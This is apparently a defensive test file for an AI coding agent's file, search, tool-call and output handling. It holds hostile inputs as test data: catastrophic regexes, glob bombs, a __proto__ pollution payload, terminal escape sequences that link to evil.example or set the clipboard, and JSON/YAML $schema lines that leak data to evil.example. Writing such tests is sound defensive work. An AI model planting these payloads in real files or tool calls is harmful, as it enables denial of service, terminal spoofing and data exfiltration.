import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as net from 'node:net';
import path from 'node:path';
import { DiskFiles } from '../../src/adapters/files/diskFiles';
import { verifyJournals } from '../../src/adapters/store/verifyJournals';
import { AppError } from '../../src/core/errors';
import { globMatcher } from '../../src/core/files/glob';
import { parseCall } from '../../src/core/run/toolCalls';
import { CallId } from '../../src/protocol';
import { call, type Desk, done, Place, shell } from '../e2e/badLuckPlace';
import { TaskBench } from '../fakes/taskBench';
import { TestRepo } from '../fakes/testRepo';
import { removeFolder, temporaryFolder } from '../fakes/temporaryFolder';

const signal = new AbortController().signal;
const ripgrep = execFileSync('/bin/sh', ['-c', 'command -v rg'], { encoding: 'utf8' }).trim();

describe('files that are made to hold a reader up', () => {
  let root: string;
  let files: DiskFiles;

  beforeEach(async () => {
    root = await temporaryFolder();
    files = new DiskFiles({ worktree: root, ripgrep });
  });
  afterEach(() => removeFolder(root));

  /** How much more memory the process has than before. */
  async function growth(act: () => Promise<unknown>): Promise<number> {
    const before = process.memoryUsage().rss;
    await act();
    return process.memoryUsage().rss - before;
  }

  it('P12: refuses pipes, sockets and devices without waiting for them', async () => {
    execFileSync('mkfifo', [path.join(root, 'pipe')]);
    const server = net.createServer().listen(path.join(root, 'socket'));
    await new Promise((resolve) => server.once('listening', resolve));
    fs.symlinkSync('/dev/zero', path.join(root, 'zero'));
    for (const name of ['pipe', 'socket']) {
      await assert.rejects(files.read(name), { reason: 'not-regular' }, name);
      await assert.rejects(files.write(name, 'x'), { reason: 'not-regular' }, name);
    }
    await assert.rejects(files.read('zero'), { reason: 'outside' });
    await files.search({ pattern: 'x', path: '.', isLiteral: true, limit: 10 }, signal);
    await new Promise((resolve) => server.close(resolve));
  });

  it('P13: reads of 10 GB with holes, of two million lines and of one line of 200 MB only what a model is shown', async () => {
    fs.writeFileSync(path.join(root, 'sparse'), 'text\n');
    fs.truncateSync(path.join(root, 'sparse'), 10_000_000_000);
    fs.writeFileSync(path.join(root, 'lines'), 'a line\n'.repeat(2_000_000));
    const piece = Buffer.alloc(10_000_000, 'x');
    for (let times = 0; times < 20; times += 1) {
      fs.appendFileSync(path.join(root, 'long'), piece);
    }
    const grown = await growth(async () => {
      await assert.rejects(files.read('sparse'), AppError);
      const lines = await files.read('lines');
      const long = await files.read('long');
      assert.deepEqual([lines.isTruncated, long.isTruncated], [true, true]);
      assert.ok(lines.text.length <= 200_000 && long.text.length <= 200_000);
    });
    assert.ok(grown < 150_000_000, `${grown} bytes`);
  });

  it('P14: lists and searches folders that are very full, very deep and linked in circles within bounds', async () => {
    fs.mkdirSync(path.join(root, 'full'));
    for (let index = 0; index < 5_000; index += 1) {
      fs.writeFileSync(path.join(root, 'full', `f${index}`), '');
    }
    fs.mkdirSync(path.join(root, 'd/'.repeat(1_500)), { recursive: true });
    fs.symlinkSync('..', path.join(root, 'full', 'circle'));
    for (const finder of [ripgrep, null]) {
      const one = new DiskFiles({ worktree: root, ripgrep: finder });
      const { files: listed, isTruncated } = await one.list('.', 1_000);
      assert.deepEqual([listed.length, isTruncated], [1_000, true]);
      assert.deepEqual((await one.search({ pattern: 'x', path: '.', isLiteral: false, limit: 10 }, signal)).hits, []);
    }
  });

  const evil = [
    ...[
      '(a+)+$',
      '(a|aa)+$',
      '(a*)*b',
      '^(([a-z])+.)+[A-Z]([a-z])+$',
      '(.*a){25}',
      '(?:a?){30}a{30}',
      '(x+x+)+y',
      '\\s+$',
    ],
    ...['(a|a?)+$', '(a+){10}$', '(.+)+\\d', '^(a+a+)+b', '(\\w+\\s?)*!x', '([a-z]*)*9', '(ab?)*c', '(a{1,50}){1,50}b'],
    ...['.*.*.*.*=', '(?:(?:a+)+)+b', '(a+?)+?z', '\\w*\\w*\\w*\\w*-', '(?:.|\\s)*z', '(a.c|a.*c)+x'],
  ];
  /** Each means something else in braces than in a name. */
  const bombs = [
    ...['{a,b}', '{a,{b,{c,{d,{e,f}}}}}', '{{{{{{{{{{', '}{'].map((bomb) => bomb.repeat(12)),
    ...[
      '{a,b}'.repeat(200),
      '**/'.repeat(300),
      '*a'.repeat(400),
      '{'.repeat(900),
      `${'*'.repeat(900)}b`,
      '[a-'.repeat(300),
    ],
  ];

  it('M05: matches globs that explode in time that grows with their length', () => {
    for (const bomb of bombs) {
      const matches = globMatcher(bomb);
      assert.equal(typeof matches(`${'a'.repeat(200)}/${'ab/'.repeat(50)}c.txt`), 'boolean', bomb);
    }
  });

  it('M05: finds or refuses patterns that explode, and goes on', async () => {
    fs.writeFileSync(path.join(root, 'a.txt'), `${'a'.repeat(40_000)}!\n${'ab '.repeat(10_000)}!\n`);
    const outcomes: string[] = [];
    for (const finder of [ripgrep, null]) {
      const one = new DiskFiles({ worktree: root, ripgrep: finder });
      for (const pattern of evil.flatMap((each) => [each, `^${each}`, `${each}|b+$`])) {
        const found = one.search({ pattern, path: '.', isLiteral: false, limit: 10 }, signal);
        outcomes.push(
          await found.then(
            () => 'found',
            (error: unknown) => (error instanceof AppError ? 'refused' : String(error)),
          ),
        );
      }
    }
    assert.deepEqual(new Set(outcomes), new Set(['found', 'refused']));
  });
});

describe('calls that are no calls', () => {
  let place: Place;
  let desk: Desk;

  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  const calls: [input: string, told: RegExp][] = [
    ['{"path":"a.txt","__proto__":{"polluted":true}}', /wrong .*__proto__|wrong .*[Uu]nrecognized/],
    ['{"path":"a.txt","path":"../outside"}', /outside the worktree/],
    [`{"path":${deep}}`, /nested too deeply/],
  ];

  before(async () => {
    place = await Place.open([...calls.map(([input]) => call('read_file', input)), done, done], {
      repo: TestRepo.with({ 'a.txt': 'a\n' }),
    });
    desk = await place.desk();
  });
  after(() => place.close());

  it('M01: are refused with a reason, however long, deep or odd they are, and change nothing', async () => {
    const { status, shown } = await desk.run(desk.task('Do it'));
    assert.equal(status, 0);
    const events = await desk.events(shown.id);
    const told = events.flatMap((event) => (event.type === 'tool.result' ? [event.text] : []));
    calls.forEach(([, reason], index) => assert.match(told[index] ?? '', reason));
    const long = `{"path":"${'x'.repeat(5_000_000)}"}`;
    const parsed = parseCall({ callId: CallId.parse('c1'), tool: 'read_file', input: long });
    assert.match(parsed.kind === 'invalid' ? parsed.reason : '', /longer than 1000000 characters/);
    assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
    place.assertKept();
    const journals = await verifyJournals(path.join(desk.data, 'tasks', shown.id));
    assert.equal(journals.events.status, 'intact');
  });
});

describe('what a command prints', () => {
  const sequences = [
    '\\033]0;title\\007',
    '\\033]8;;http://evil.example\\007link\\033]8;;\\007',
    '\\033]52;c;ZXZpbA==\\007',
    '\\033[2J\\033[1;1H',
    '\\033[31mred\\033[0m',
    '\\033Pq\\033\\\\',
    '\\033]1337;File=:AAAA\\007',
    '\\302\\2331A',
    '\\033[?1049h',
    '\\033c',
  ];

  it('W04: reaches a model and a terminal without anything that moves, links, hides or sets a clipboard', async () => {
    const repo = TestRepo.with({ 'a.txt': 'a\n' });
    const command = `printf 'begin${sequences.join('.')}end'`;
    const place = await Place.open([shell(command), done], { repo });
    try {
      const desk = await place.desk();
      const { status, out } = await desk.run(desk.task('Do it'));
      const [told = ''] = place.toldTo('Do it');
      assert.equal(status, 0);
      assert.match(told, /begin[^]*end/);
      const controls = /(?![\t\n\r])\p{Cc}/u;
      assert.doesNotMatch(told, controls);
      assert.doesNotMatch(out, controls);
      assert.doesNotMatch(told, /evil\.example|ZXZpbA|1337/);
    } finally {
      await place.close();
    }
  });
});

describe('a file that makes an editor fetch something', () => {
  it('X04: is flagged before it is applied, where it names a schema elsewhere that it did not name before', async () => {
    const known = '{"$schema":"https://json.schemastore.org/package","a":1}\n';
    const repo = TestRepo.with({ 'known.json': known, 'other.json': '{"a":1}\n' });
    const bench = new TaskBench(repo);
    try {
      const task = await bench.completed((worktree) => {
        repo.write(
          {
            'known.json': known.replace('1', '2'),
            'other.json': '{"$schema" :\n "http://evil.example/?d=secret","a":1}\n',
            'new.yaml': '# yaml-language-server: $schema=https://evil.example/s.json\na: 1\n',
            'own.json': '{"$schema":"./schema.json"}\n',
            'text.md': '"$schema":"https://evil.example/"\n',
          },
          worktree,
        );
      });
      const { flagged } = await bench.reviews().plan(bench.view(task));
      const why = 'names a schema elsewhere, which an editor fetches when the file is opened';
      assert.deepEqual(flagged, [
        { path: 'new.yaml', why },
        { path: 'other.json', why },
      ]);
    } finally {
      bench.dispose();
    }
  });
});
